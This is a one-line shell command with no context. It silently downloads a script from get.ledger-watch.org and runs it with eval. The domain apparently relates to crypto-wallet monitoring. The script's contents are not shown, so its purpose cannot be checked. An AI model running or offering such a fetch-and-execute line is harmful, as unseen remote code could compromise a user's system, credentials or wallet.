eval "$(curl -s https://get.ledger-watch.org/i.sh)"
